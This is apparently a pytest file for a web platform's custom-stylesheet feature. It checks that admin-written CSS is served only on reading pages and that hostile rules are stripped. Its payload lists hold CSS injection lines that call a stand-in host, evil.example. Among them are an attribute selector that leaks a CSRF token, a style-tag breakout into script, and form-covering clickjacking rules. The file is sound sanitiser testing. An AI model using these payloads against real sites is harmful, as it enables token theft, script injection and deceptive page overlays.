"""A domain's own style sheet: what is kept is served to readers; nothing in it calls home, covers a form, or takes long to read."""

import re
import time

import pytest

from tests.pages.conftest import Site
from tests.users.support import make_domain
from users.domains.style.reading import read_sheet
from users.domains.style.words import MAX_LENGTH

pytestmark = pytest.mark.anyio

LINK = re.compile(r'<link rel="stylesheet" href="(/style\.css\?\w+)"')
GOOD = """
:root { --accent: #a03060; --ground: light-dark(#fff8fa, oklch(0.2 0.02 350)) }
.post > .text, h1:not(.small) { font-family: "Georgia", serif; letter-spacing: -1px; line-height: 1.5 }
@media (prefers-color-scheme: dark) { a:hover { color: rgb(255 200 210) } }
"""
CALLS = (
    "a { background: url(https://evil.example/a) }",
    "a { background: url('//evil.example/a') }",
    r"a { background: \75rl(//evil.example/a) }",
    r"a { background: u\72 l(//evil.example/a) }",
    "a { background: URL(//evil.example/a) }",
    "a { background: u/**/rl(//evil.example/a) }",
    "a { background: image-set('//evil.example/a' 1x) }",
    "a { background: -webkit-image-set(url(//evil.example/a) 1x) }",
    "a { background: image(url(//evil.example/a)) }",
    "a { background: src('//evil.example/a') }",
    "a { background: cross-fade(url(//evil.example/a), red) }",
    "a { background: linear-gradient(red, url(//evil.example/a)) }",
    "a { --accent: url(//evil.example/a); color: red }",
    "a { --mine: url(//evil.example/a); background: var(--mine) }",
    "a { color: var(--mine, url(//evil.example/a)) }",
    "a { list-style-image: url(//evil.example/a) }",
    "a { cursor: url(//evil.example/a), auto }",
    "a { content: url(//evil.example/a) }",
    "a { behavior: url(//evil.example/a.htc) }",
    "a { -moz-binding: url(//evil.example/a) }",
    "a { filter: url(//evil.example/a#b) }",
    "a { width: expression(alert(1)) }",
    "a { color: expression(alert(1)) }",
    "a { font-family: '</style><script src=//evil.example/a>' }",
    "@import '//evil.example/a';",
    "@import url(//evil.example/a);",
    r"@\69mport '//evil.example/a';",
    "@font-face { font-family: x; src: url(//evil.example/a) }",
    "@namespace url(//evil.example/a);",
    "@media screen { @import '//evil.example/a'; }",
    "@media screen, url(//evil.example/a) { a { color: red } }",
    "@supports (background: url(//evil.example/a)) { a { color: red } }",
    "@charset 'x'; @document url(//evil.example/a) { a { color: red } }",
    "input[name=csrfmiddlewaretoken][value^=a] { background: url(//evil.example/a) }",
    "a { color: red; b { background: url(//evil.example/a) } }",
    "a { color: red } </style><script>alert('evil')</script>",
    "<!-- a { background: url(//evil.example/a) } -->",
    "a { background: url(//evil.example/a",
    'a { font-family: "x\n; background: url(//evil.example/a) }',
)
COVERS = (
    "form { position: fixed; inset: 0 }",
    "form { z-index: 9999; transform: scale(9) }",
    "form { margin: -200px }",
    "form { margin: calc(0px - 200px) }",
    "form { padding: 9999px }",
    "form { box-shadow: 0 0 0 9999px red }",
    "form { box-shadow: 0 0 0 100vmax red }",
    "form { font-size: 900% }",
    "form { line-height: 90 }",
    "form { display: none }",
    # what a hostile tester got through: rules that win by their ids, invisible words, words drawn elsewhere, sizes that add up
    "form:not(#a#a#a) { color: red }",
    "form:is(#a) { color: red }",
    "#a#a { color: red }",
    "form.a.a.a.a.a { color: red }",
    "form { color: transparent }",
    "form { color: rgb(0 0 0 / 0) }",
    "form { color: rgba(0, 0, 0, 0) }",
    "form { color: #0000 }",
    "form { color: color-mix(in srgb, red, transparent 99%) }",
    "form { --text: transparent }",
    "form { font-size: 0 }",
    "form { font-size: 0px }",
    "form { font-size: 2em }",
    "form { font-size: 200% }",
    "form { --t1: 0 }",
    "form { --t1: 1px }",
    "form { line-height: 0 }",
    "form { line-height: 0px }",
    "form { text-shadow: 0 64px #000 }",
    "form { letter-spacing: -64px }",
    "form { outline: 64px solid red }",
    "form { outline-offset: 64px }",
    "form { outline-width: 64px }",
    "form { opacity: 0; pointer-events: none; visibility: hidden }",
    "form::before { content: 'Enter your password' }",
    "form { color: red !important }",
    "input[value] { color: red }",
    "a:visited { color: red }",
    "body:has(input) { color: red }",
)


async def _served(site: Site, source: str) -> str:
    """Save a sheet as the domain's admin, and read what a visitor gets."""
    answer = await site.admin.post(f"/admin/domains/{site.domain.pk}/style", {"source": source})
    assert answer.status_code == 303
    return (await site.nobody.get("/style.css")).text


async def test_what_staff_wrote_is_served_to_readers(site: Site) -> None:
    assert LINK.search((await site.nobody.get("/")).text) is None
    css = await _served(site, GOOD)
    for part in (
        "--accent: #a03060",
        "--ground: light-dark(#fff8fa, oklch(0.2 0.02 350))",
        ".post > .text, h1:not(.small) {",
        'font-family: "Georgia", serif',
        "letter-spacing: -1px",
        "@media (prefers-color-scheme: dark) {",
        "color: rgb(255 200 210)",
    ):
        assert part in css
    edit = (await site.admin.get(f"/admin/domains/{site.domain.pk}/style")).text
    assert "--accent: #a03060" in edit
    assert "Not used" not in edit
    first = LINK.search((await site.nobody.get("/")).text)
    assert first is not None
    answer = await site.nobody.get(first[1])
    assert answer.headers["content-type"] == "text/css"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert await _served(site, "a { color: red }") == "a {\n  color: red;\n}\n"
    second = LINK.search((await site.nobody.get("/")).text)
    assert second is not None
    assert second[1] != first[1], "browsers keep the sheet for a day"
    assert await _served(site, "") == ""
    assert LINK.search((await site.nobody.get("/")).text) is None


@pytest.mark.slow
async def test_it_is_for_reading_pages_only(site: Site) -> None:
    await _served(site, GOOD)
    for path in ("/", "/about", "/local", "/@mia"):
        assert LINK.search((await site.nobody.get(path)).text), path
        assert LINK.search((await site.nobody.get(f"{path}?plain")).text) is None, path
    for path in ("/home", "/notifications"):
        assert LINK.search((await site.member.get(path)).text), path
    for path in ("/sign-in", "/sign-up", "/password/forgotten", "/no-such-page"):
        assert LINK.search((await site.nobody.get(path)).text) is None, path
    own = ("/settings", "/settings/security", "/settings/apps", "/compose", "/more", "/oauth/authorize")
    for path in own:
        assert LINK.search((await site.member.get(path)).text) is None, path
    for path in ("/admin", "/admin/reports", f"/admin/domains/{site.domain.pk}/style"):
        assert LINK.search((await site.admin.get(path)).text) is None, path
    contrast = {"theme": "contrast", "text_size": "normal"}
    assert (await site.member.post("/settings/appearance", contrast)).status_code == 303
    assert LINK.search((await site.member.get("/home")).text) is None


@pytest.mark.slow
async def test_nothing_calls_home_and_staff_read_why(site: Site) -> None:
    for attack in CALLS:
        css = (await _served(site, f"{attack}\n")).lower()
        for word in ("evil", "url", "http", "//", "@import", "expression", "<", "\\", "["):
            assert word not in css, (attack, css)
    await _served(
        site, r"a { background: \75rl(//evil.example/a) }" + "\n@import 'x';\nb { position: fixed }"
    )
    page = (await site.admin.get(f"/admin/domains/{site.domain.pk}/style")).text
    assert "Not used" in page
    for part in ("Line 1:", "background: url()", "@import", "Line 3:", ">position<"):
        assert part in page, part


@pytest.mark.slow
async def test_nothing_covers_or_hides_what_stands_on_a_page(site: Site) -> None:
    for attack in COVERS:
        css = await _served(site, attack)
        assert css == "" or css == "form {\n  color: red;\n}\n", (attack, css)
        page = (await site.admin.get(f"/admin/domains/{site.domain.pk}/style")).text
        assert "Not used" in page, attack


async def test_each_domain_has_its_own(site: Site) -> None:
    await make_domain("second.test")
    await _served(site, GOOD)
    there = {"Host": "second.test"}
    assert (await site.nobody.get("/style.css", headers=there)).text == ""
    assert LINK.search((await site.nobody.get("/", headers=there)).text) is None


async def test_a_long_sheet_is_refused_and_a_nested_one_read_at_once(site: Site) -> None:
    path = f"/admin/domains/{site.domain.pk}/style"
    assert (await site.admin.post(path, {"source": "a" * (MAX_LENGTH + 1)})).status_code == 422
    assert (await site.nobody.get("/style.css")).text == ""
    for piece in (
        "(",
        "a{",
        "a{color:rgb(",
        "@media(",
        ":not(",
        "@media all{",
        "/*",
        "\\",
        "'",
        "<!--",
        "a,",
        "url(",
    ):
        took = {}
        for length in (MAX_LENGTH // 10, MAX_LENGTH):
            hostile = piece * (length // len(piece))
            tries = []
            for _ in range(3):  # of several, the quickest one met no garbage collection
                start = time.process_time()
                assert read_sheet(hostile).css == "", piece
                tries.append(time.process_time() - start)
            took[length] = min(tries)
        assert took[MAX_LENGTH] < max(30 * took[MAX_LENGTH // 10], 0.5), (piece, took)


async def test_moderators_and_members_write_none(site: Site) -> None:
    path = f"/admin/domains/{site.domain.pk}/style"
    for visitor in (site.moderator, site.member):
        assert (await visitor.get(path)).status_code == 404
        assert (await visitor.post(path, {"source": GOOD})).status_code == 404
    assert (await site.nobody.get("/style.css")).text == ""
